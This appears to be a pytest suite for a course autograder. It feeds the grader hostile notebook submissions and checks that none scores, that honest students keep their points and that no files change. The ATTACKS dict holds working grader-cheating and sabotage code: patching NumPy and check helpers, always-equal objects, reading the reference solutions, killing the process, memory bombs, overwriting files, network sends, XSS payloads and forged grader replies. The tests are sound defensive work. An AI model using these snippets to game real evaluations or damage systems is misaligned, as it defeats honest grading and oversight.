"""Hostile submissions, graded in one batch beside honest ones.

Each hostile student starts from the released (blank) notebook 01 and tries one way to get
points without the work: patching NumPy, builtins or the check helpers, objects that equal
everything, silenced errors, importing or reading the reference solutions, editing or deleting
tests, changing points, forging a test cell, killing the process, looping forever, flooding the
output, eating memory, writing over other files, using the network. None may gain a point; the
honest students keep exactly their points; the batch finishes; no other file changes.
"""

import csv
import hashlib
import json
import shutil

import nbformat
import pytest

from conftest import ROOT, run_course
from notebook_text import html_text

pytestmark = pytest.mark.slow

A = "01_gradient_descent"
SOURCE = ROOT / "notebooks" / A / f"{A}.ipynb"
EXERCISES = ("numerical_gradient", "gd_step", "gradient_descent", "should_stop")

# code put in a new cell after the setup cell of the blank notebook (or, for "solutions", as every
# solution cell); each must score 0
ATTACKS = {
    "patch_numpy": """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
def numerical_gradient(f, w, h=1e-5): return np.zeros(3)
def gd_step(w, grad, lr): return w
def gradient_descent(grad, w0, lr, n_steps): return np.zeros((1,))
def should_stop(losses, patience, min_delta=0.0): return False
""",
    "patch_checks": """
import course_lib.checks as checks
for name in dir(checks):
    if name.startswith("check"):
        setattr(checks, name, lambda *a, **k: None)
check_array = check_scalar = check_equal = check_unchanged = check_shape = check_callable = lambda *a, **k: None
def numerical_gradient(f, w, h=1e-5): return None
def gd_step(w, grad, lr): return None
def gradient_descent(grad, w0, lr, n_steps): return None
def should_stop(losses, patience, min_delta=0.0): return None
""",
    "patch_builtins": """
import builtins, numpy as np
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
np.abs = lambda x: np.zeros_like(x)
np.max = lambda *a, **k: 0.0
def numerical_gradient(f, w, h=1e-5): return np.zeros_like(w)
def gd_step(w, grad, lr): return np.zeros_like(w)
def gradient_descent(grad, w0, lr, n_steps): return np.zeros((n_steps + 1,) + np.shape(w0))
def should_stop(losses, patience, min_delta=0.0): return True
""",
    "always_equal": """
import numpy as np
class Anything(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
class Yes:
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __array__(self, *a, **k): return np.zeros(3)
    def __len__(self): return 3
def numerical_gradient(f, w, h=1e-5): return np.zeros(np.shape(w)).view(Anything)
def gd_step(w, grad, lr): return Yes()
def gradient_descent(grad, w0, lr, n_steps): return Yes()
def should_stop(losses, patience, min_delta=0.0): return Yes()
""",
    "silence_errors": """
import sys, warnings
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
sys.excepthook = lambda *a: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
""",
    "import_reference": """
try:
    from course_lib.solutions.descent import numerical_gradient, gradient_descent
    from course_lib.solutions.optim import gd_step
    from course_lib.solutions.stopping import should_stop
except ImportError:
    import sys, glob
    for root in ("/work", "/root", "/home", "/tmp", "/"):
        sys.path[:0] = glob.glob(root + "/*") + glob.glob(root + "/*/*")
    try:
        import importlib
        for m in [m for m in list(sys.modules) if m.startswith("course_lib")]:
            del sys.modules[m]
        from course_lib.solutions.descent import numerical_gradient, gradient_descent
        from course_lib.solutions.optim import gd_step
        from course_lib.solutions.stopping import should_stop
    except ImportError:
        pass
""",
    "read_source_notebook": """
import glob, json, os
code = ""
for pattern in ("/**/notebooks/01_gradient_descent/*.ipynb", "/**/source/01_gradient_descent/*.ipynb",
                "/tmp/**/*.ipynb", "../**/*.ipynb", "/**/descent.py", "/**/gradebook.db"):
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            text = open(path).read()
        except Exception:
            continue
        if path.endswith(".ipynb") and "BEGIN SOLUTION" in text:
            for cell in json.loads(text)["cells"]:
                src = "".join(cell["source"])
                if "BEGIN SOLUTION" in src:
                    code += src + "\\n"
        elif path.endswith(".py"):
            code += text
if code:
    exec(code)
""",
    "kill_process": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else None
os.killpg(0, signal.SIGKILL)
""",
    "exit_early": """
import os
os._exit(0)
""",
    "infinite_loop_cell": """
while True:
    pass
""",
    "infinite_loop_function": """# in the solution cell
def numerical_gradient(f, w, h=1e-5):
    while True:
        pass
gd_step = gradient_descent = should_stop = numerical_gradient
""",
    "output_flood": """
import sys
for _ in range(200):
    print("x" * 1_000_000)
    sys.stderr.write("y" * 1_000_000)
import os
os.write(1, b"z" * 10_000_000)
""",
    "memory_bomb": """
blocks = []
try:
    while True:
        blocks.append(bytearray(512 * 1024 * 1024))
except MemoryError:
    pass
""",
    "write_elsewhere": """
import glob, os
for pattern in ("/**/grades.csv", "/**/*.ipynb", "/**/gradebook.db", "/tmp/**/*"):
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            with open(path, "w") as fh:
                fh.write("owned")
        except Exception:
            pass
for d in ("..", "../..", "/sandbox/.."):
    try:
        open(os.path.join(d, "owned.txt"), "w").write("x")
    except Exception:
        pass
""",
    "network": """
import socket
for host in ("1.1.1.1", "8.8.8.8", "127.0.0.1"):
    try:
        s = socket.create_connection((host, 80), timeout=2)
        s.sendall(b"leak")
    except OSError:
        pass
""",
    "html_output": """
from IPython.display import HTML, Javascript, SVG, display
display(HTML("<script>document.title='pwned'</script><img src=x onerror=\\"document.title='pwned'\\">"))
display(Javascript("document.title='pwned'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))
print("<script>document.title='pwned'</script>")
""",
    "grader_channel": """
import os
for fd in range(3, 40):
    try:
        os.write(fd, b"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x20" + b'{"op":"value","value":true}   ')
    except OSError:
        pass
""",
}


def _blank(released):
    return nbformat.read(str(released / A / f"{A}.ipynb"), as_version=4)


def _with_cell(nb, code):
    if code.startswith("# in the solution cell"):
        for c in nb.cells:
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "numerical_gradient":
                c.source = code
        return nb
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    cell = nbformat.v4.new_code_cell(code.strip())
    nb.cells.insert(first + 1, cell)
    return nb


def _edited_tests(nb):
    for c in nb.cells:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            c.source = "print('all tests passed')"
            meta["points"] = 100
    return nb


def _deleted_tests(nb):
    nb.cells = [c for c in nb.cells if not (c.get("metadata", {}).get("nbgrader", {}).get("grade")
                                            and not c.metadata["nbgrader"].get("solution"))]
    return nb


def _forged_cell(nb):
    cell = nbformat.v4.new_code_cell("print('free points')")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                 "grade_id": "test_bonus", "schema_version": 3}
    nb.cells.append(cell)
    return nb


def _honest_noisy(source_nb):
    """Correct answers that also print to stderr and raise warnings, and one that is slow."""
    nb = nbformat.read(str(SOURCE), as_version=4)
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "gd_step":
            c.source = ("import sys, time, warnings\n"
                        "def gd_step(w, grad, lr):\n"
                        "    sys.stderr.write('debug: stepping\\n')\n"
                        "    warnings.warn('a harmless warning')\n"
                        "    return w - lr * grad\n"
                        "time.sleep(2)\n")
    return nb


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    released = tmp_path_factory.mktemp("release")
    assert run_course("release", "--out", released, A).returncode == 0
    subs = tmp_path_factory.mktemp("subs")

    def put(student, nb):
        (subs / student / A).mkdir(parents=True)
        nbformat.write(nb, str(subs / student / A / f"{A}.ipynb"))

    put("honest_full", nbformat.read(str(SOURCE), as_version=4))
    put("honest_blank", _blank(released))
    put("honest_noisy", _honest_noisy(SOURCE))
    for name, code in ATTACKS.items():
        put(f"hostile_{name}", _with_cell(_blank(released), code))
    put("hostile_edited_tests", _edited_tests(_blank(released)))
    put("hostile_deleted_tests", _deleted_tests(_blank(released)))
    put("hostile_forged_cell", _forged_cell(_blank(released)))
    # a wrong answer plus every trick at once, in the solution cell itself
    combo = _blank(released)
    for c in combo.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "gd_step":
            c.source = ATTACKS["patch_checks"] + ATTACKS["silence_errors"] + "\ndef gd_step(w, grad, lr):\n    return w\n"
    put("hostile_combo", combo)
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in subs.rglob("*") if p.is_file()}
    out = tmp_path_factory.mktemp("graded")
    (out / "keep.txt").write_text("the instructor's own file")
    proc = run_course("grade", subs, "--out", out, "--workers", "2", "--cell-timeout", "10", "--notebook-timeout", "60",
                      "--memory-mb", "4096", timeout=1200)
    after = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in subs.rglob("*") if p.is_file()}
    with open(out / "grades.csv", newline="") as fh:
        rows = {r["student_id"]: r for r in csv.DictReader(fh)}
    return proc, out, rows, before, after, subs


def test_the_batch_finishes_and_every_student_has_a_grade(batch):
    proc, out, rows, _, _, _ = batch
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert len(rows) == 3 + len(ATTACKS) + 4
    assert "Traceback" not in proc.stdout + proc.stderr


def test_honest_students_keep_exactly_their_points(batch):
    _, _, rows, _, _, _ = batch
    assert float(rows["honest_full"]["score"]) == 10.0
    assert float(rows["honest_blank"]["score"]) == 0.0
    assert float(rows["honest_noisy"]["score"]) == 10.0, "stderr output, warnings or a 2 s sleep cost points"


def test_no_hostile_submission_gains_a_point(batch):
    _, _, rows, _, _, _ = batch
    inflated = {s: r["score"] for s, r in rows.items() if s.startswith("hostile_") and float(r["score"]) != 0.0}
    assert not inflated, inflated
    assert all(float(r["max_score"]) == 10.0 for r in rows.values()), "a submission changed the points available"


def test_nothing_outside_the_output_changed(batch):
    _, out, _, before, after, _ = batch
    assert before == after, "a submission's files changed during grading"
    assert (out / "keep.txt").read_text() == "the instructor's own file"
    assert not list(out.rglob("owned*"))
    assert "owned" not in (out / "grades.csv").read_text()
    assert json.loads(json.dumps(nbformat.read(str(SOURCE), as_version=4)))  # the source notebook is intact
    assert "BEGIN SOLUTION" in SOURCE.read_text()


def test_stopped_code_is_reported_in_one_sentence(batch):
    _, out, _, _, _, _ = batch
    for student in ("hostile_infinite_loop_function",):
        page = html_text(out / "feedback" / student / A / f"{A}.html")
        assert "the grader stopped it" in page or "GraderStoppedYourCode" in page, page[:2000]


def test_flooded_output_is_cut(batch):
    _, out, _, _, _, _ = batch
    page = out / "feedback" / "hostile_output_flood" / A / f"{A}.html"
    assert page.stat().st_size < 5_000_000


def test_grading_again_gives_the_same_grades_and_keeps_the_work(batch, tmp_path):
    proc, out, rows, _, _, _ = batch
    again = run_course("grade", out.parent / next(p.name for p in out.parent.iterdir() if p.name.startswith("subs")),
                       "--out", out, "--workers", "2", "--cell-timeout", "10", "--notebook-timeout", "60")
    assert again.returncode == 0, again.stderr
    assert f"{len(rows)} kept from an earlier run" in again.stdout
    with open(out / "grades.csv", newline="") as fh:
        assert {r["student_id"]: r for r in csv.DictReader(fh)} == rows


def test_no_feedback_page_runs_a_script(batch):
    from bleach._vendor import html5lib   # the HTML5 parsing algorithm browsers use

    _, out, _, _, _, _ = batch
    pages = sorted((out / "feedback").rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "default-src 'none'" in text, f"{page}: no Content-Security-Policy"
        for e in html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=False).iter():
            assert e.tag not in ("script", "iframe", "svg", "object", "embed"), f"{page}: a <{e.tag}> element"
            assert not any(k.lower().startswith("on") for k in e.attrib), f"{page}: {e.attrib}"


# -- replies forged in the student process to break the grader's side (autograder/wire.py) --------
# Each rewrites every reply the student process sends: a few hundred bytes describing 3 GiB of
# nn.Linear weights, and a 21 MB frame of empty lists. The grader used to allocate the first (its worker was killed, the pool broke and every
# student got 0/0) and to blow the second up to 1.8 GB; now each fails its tests with one sentence.
_FORGE_REPLIES = """
import sys
_wire = sys.modules["wire"]
_real_send = _wire.send
def _forged(fd, msg):   # every answer to a call, even the stubs' NotImplementedError, becomes the forged value
    if isinstance(msg, dict) and msg.get("op") in ("value", "raised"):
        msg = {"op": "value", "value": FORGED_VALUE, "sync": []}
    _real_send(fd, msg)
_wire.send = _forged
"""
ATTACKS["forged_reply_huge_model"] = (
    "_layer = {'~': 'module', 'kind': 'Linear', 'args': {'in_features': 16384, 'out_features': 16384, 'bias': True},"
    " 'children': [], 'params': {}, 'buffers': {}, 'training': True}\n"
    "FORGED_VALUE = {'~': 'module', 'kind': 'Sequential', 'args': {}, 'params': {}, 'buffers': {}, 'training': True,"
    " 'children': [[str(i), _layer] for i in range(3)]}\n" + _FORGE_REPLIES)
ATTACKS["forged_reply_21_mb_of_lists"] = "FORGED_VALUE = [[]] * 7_000_000\n" + _FORGE_REPLIES


def test_forged_replies_cost_only_their_own_tests_with_one_sentence(batch):
    _, out, rows, _, _, _ = batch
    for student, phrase in (("hostile_forged_reply_huge_model", "more than 16 MB of arrays, tensors and text"),
                            ("hostile_forged_reply_21_mb_of_lists", "more than 8 MB")):
        assert float(rows[student]["score"]) == 0.0
        page = html_text(out / "feedback" / student / A / f"{A}.html")
        assert phrase in page, (student, page[:3000])
        assert "Traceback" not in page
